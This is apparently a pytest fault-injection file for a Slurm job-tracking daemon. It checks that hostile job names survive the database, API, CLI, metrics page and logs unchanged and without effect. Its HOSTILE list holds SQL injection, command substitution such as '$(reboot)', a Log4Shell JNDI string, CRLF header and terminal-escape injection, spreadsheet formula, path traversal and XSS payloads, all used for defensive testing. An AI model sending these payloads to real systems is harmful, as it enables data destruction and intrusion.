"""T-40: names that are SQL, labels, log lines or terminal commands. They come back exactly as they were, everywhere."""

from __future__ import annotations

import asyncio
import json
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psycopg
import pytest
from prometheus_client.parser import text_string_to_metric_families

from tests.daemon_process import wait_until
from tests.faults.figures import Figures
from tests.faults.raw_http import exchange, status_of
from tests.faults.trial import FaultDaemon
from tests.requirements import require_tool
from tests.served_api import hook_headers, request_bytes

HOSTILE = (
    "'; DROP TABLE jobs; --", '"; DELETE FROM audit_log; --', "Robert'); DROP TABLE jobs;--", "$1", "%s%n%x",
    "{0.__class__}",
    "${jndi:ldap://evil/a}", "`id`", "$(reboot)", "a\\", 'a"b', "a\nb",
    "a\r\nX-Injected: 1", 'x"} 1\nevil_metric{a="', "\\n",
    "\x1b[2J\x1b]0;owned\x07", "\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\", "\x9b31m", "\u202egnp.exe",
    "a\u2028b\u2029c",
    "<script>alert(1)</script>", "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "../../../etc/passwd",
    "a\tb\x0b\x0c\x7f\x01",
    "\ufeffx", "x" * 1024, "\U0001d518\U0001d52b \U0001f680", '{"level":"error","event":"forged"}', '\\"', "NULL",
    "null", "None", "''", "#{x}",
)  # fmt: skip
CONTROL = re.compile(rb"[\x00-\x08\x0b-\x1f\x7f]")


@pytest.fixture
def daemon(place: Path, database: str) -> Iterator[FaultDaemon]:
    with FaultDaemon(place / "d", database={"url": database}, sampling={"interval_seconds": 3600}) as one:
        yield one


def hook(daemon: FaultDaemon, job: int, **values: str) -> None:
    """A prolog whose environment has `values`."""
    environment = {"SLURM_JOB_ID": str(job), "SLURMD_NODENAME": "n1", "SLURM_CLUSTER_NAME": "lab",
                   "SLURM_JOB_START_TIME": str(int(time.time())), **values}  # fmt: skip
    body = b"".join(f"{name}={value}\0".encode() for name, value in environment.items())
    data = request_bytes("POST", "/v1/hooks/slurm/prolog", body, {**hook_headers(), "Connection": "close"})
    answer = asyncio.run(exchange(daemon.socket, data))
    assert status_of(answer) == 201, answer


def event(daemon: FaultDaemon, job: int, **fields: Any) -> bytes:
    body = json.dumps({"job_id": job, "cluster": "lab", "node": "n1", **fields}).encode()
    data = request_bytes("POST", "/v1/events/job-started", body, {"Connection": "close"})
    return asyncio.run(exchange(daemon.socket, data))


@pytest.mark.fault("T-40")
def test_names_come_back_as_they_were(daemon: FaultDaemon, database: str, figures: Figures, place: Path) -> None:
    """Through spool, PostgreSQL, API and CLI; on /metrics every one is a label and nothing else."""
    sent: dict[int, str] = {}
    for job, name in enumerate(HOSTILE, start=1):
        hook(daemon, job, SLURM_JOB_NAME=name, SLURM_JOB_ACCOUNT=name, SLURM_JOB_PARTITION=name, SLURM_JOB_USER=name,
             SLURM_JOB_COMMENT=name)  # fmt: skip
        sent[job] = name
    refused = 0
    for job, name in enumerate(HOSTILE, start=1001):
        status = status_of(event(daemon, job, user=name, account=name, partition=name))
        refused += status == 400
        assert status in {201, 400}
        if status == 201:
            sent[job] = name

    def stored() -> dict[str, tuple[str, str]]:
        with psycopg.connect(database) as connection:
            found = connection.execute("SELECT job_id, account, partition FROM jobs").fetchall()
        return {row[0]: (row[1], row[2]) for row in found}

    held = wait_until(lambda: (now := stored()) and len(now) == len(sent) and now, "the jobs to be stored")
    wrong = {job: held[f"slurm-{job}"] for job, name in sent.items() if held[f"slurm-{job}"] != (name, name)}
    figures.set(names=len(sent), refused=refused, not_as_sent=len(wrong))
    assert wrong == {}
    status, body = daemon.get("/v1/jobs?limit=1000")
    told = {job["job_id"]: job["account"] for job in json.loads(body)["jobs"]}
    assert (status, told) == (200, {f"slurm-{job}": name for job, name in sent.items()})
    for job in (1, 11, 12, 14, 16):
        status, body = daemon.get(f"/v1/jobs?account={quoted(sent[job])}")
        assert status in {200, 400}
        if status == 200:
            assert {found["account"] for found in json.loads(body)["jobs"]} == {sent[job]}
    with psycopg.connect(database) as connection:
        tables = connection.execute(
            "SELECT count(*) FROM pg_tables WHERE tablename IN ('jobs', 'audit_log')"
        ).fetchone()
        events = connection.execute("SELECT count(*) FROM job_audit_events").fetchone()
    assert tables == (2,)
    assert events is not None
    assert events[0] >= len(sent)
    check_page(daemon, sent, figures)
    check_log(daemon)
    for command in (
        ("jobs", "list", "--limit", "200"),
        ("jobs", "show", "slurm-16"),
        ("report", "slurm-16"),
        ("top", "--once"),
    ):
        done = subprocess.run(
            [sys.executable, "-m", "jobtrail", *command],
            env=daemon.environment(),
            capture_output=True,
            timeout=60,
            check=False,
        )
        assert CONTROL.search(done.stdout + done.stderr) is None, command
        assert "\x9b".encode() not in done.stdout + done.stderr


def quoted(text: str) -> str:
    return "".join(f"%{byte:02x}" for byte in text.encode())


def check_page(daemon: FaultDaemon, sent: dict[int, str], figures: Figures) -> None:
    """The page is valid, every hostile name is whole in a label, and made no series of its own."""
    promtool = require_tool("promtool", "whether the page is valid stays unchecked")
    status, page = daemon.get("/metrics")
    assert status == 200
    done = subprocess.run([promtool, "check", "metrics"], input=page, capture_output=True, timeout=60, check=False)
    assert b"error while linting" not in done.stderr, done.stderr
    assert b"parsing" not in done.stderr, done.stderr
    families = {family.name: family for family in text_string_to_metric_families(page.decode())}
    assert not any(name.startswith("evil") for name in families)
    accounts = {sample.labels["job_id"]: sample.labels["account"] for sample in families["hpc_job_info"].samples}
    shown = {job: accounts[f"slurm-{job}"] for job in sent if f"slurm-{job}" in accounts}
    figures.set(labels=len(shown))
    assert len(shown) == len(sent)
    assert {job for job, account in shown.items() if account != sent[job]} == set()


def check_log(daemon: FaultDaemon) -> None:
    """Each line is one JSON object of the daemon's own; nothing of it moves a terminal."""
    lines = daemon.log.read_bytes().split(b"\n")[:-1]
    for line in lines:
        assert set(json.loads(line)) >= {"event", "level"}, line
        assert CONTROL.search(line) is None
    assert not any(json.loads(line)["event"] == "forged" for line in lines)


@pytest.mark.fault("T-40")
def test_addresses_headers_and_refusals_are_no_way_in(daemon: FaultDaemon, figures: Figures) -> None:
    """What is wrong is quoted back as data: no header of an answer and no line of the log is made by who asks."""
    cases = 0
    for name in HOSTILE:
        for path in (
            f"/v1/jobs/{quoted(name)}",
            f"/v1/jobs?state={quoted(name)}",
            f"/v1/nodes?partition={quoted(name)}",
            f"/v1/jobs?{quoted(name)}=1",
            f"/v1/hooks/slurm/{quoted(name).replace('%2f', '_')}",
            f"/{quoted(name)}",
        ):
            method = "POST" if "hooks" in path else "GET"
            data = request_bytes(method, path[:7000], b"", {"Connection": "close", **hook_headers()})
            answer = asyncio.run(exchange(daemon.socket, data))
            head, _, body = answer.partition(b"\r\n\r\n")
            cases += 1
            assert status_of(answer) in {200, 400, 403, 404, 405, 413, 503}, (path, answer[:200])
            assert b"X-Injected" not in head
            assert CONTROL.search(body.strip().replace(b"\x7f", b"")) is None or b"text/plain" in head  # DEL is JSON
            assert b"<script>" not in body or b"application/json" in head
    check_log(daemon)
    figures.set(cases=cases)
